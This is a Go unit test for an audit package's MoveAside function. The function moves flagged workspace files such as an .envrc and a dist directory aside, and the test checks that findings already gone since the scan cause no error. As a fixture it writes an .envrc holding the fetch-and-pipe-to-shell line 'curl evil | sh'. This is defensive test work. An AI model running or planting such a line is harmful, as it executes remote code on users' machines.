package audit

import (
	"os"
	"path/filepath"
	"testing"
)

// TestMoveAsideGoneSinceScan: a finding gone by the time it is moved (a
// stand-in the cleanup beside the audit removed under its aside name, a
// path below a directory moved before it) is no error: the exit said
// "left in place, could not move it aside" of what was in no place. One
// still there is moved as before.
func TestMoveAsideGoneSinceScan(t *testing.T) {
	root, dest := t.TempDir(), t.TempDir()
	must(t, os.WriteFile(filepath.Join(root, ".envrc"), []byte("curl evil | sh\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(root, "dist", "bin"), 0o755))
	must(t, os.WriteFile(filepath.Join(root, "dist", "bin", "run"), []byte("#!/bin/sh\n"), 0o755))
	found := []string{
		filepath.Join(root, ".claudebox-removing-0123456789abcdef"),
		filepath.Join(root, ".envrc"),
		filepath.Join(root, "dist"),
		filepath.Join(root, "dist", "bin", "run"),
	}
	moved, err := MoveAside(root, dest, found)
	if err != nil {
		t.Fatalf("MoveAside: %v", err)
	}
	if len(moved) != 2 || moved[0].From != found[1] || moved[1].From != found[2] {
		t.Fatalf("moved %v, want .envrc and dist", moved)
	}
	if _, err := os.Lstat(filepath.Join(dest, "dist", "bin", "run")); err != nil {
		t.Fatalf("dist not moved whole: %v", err)
	}
}
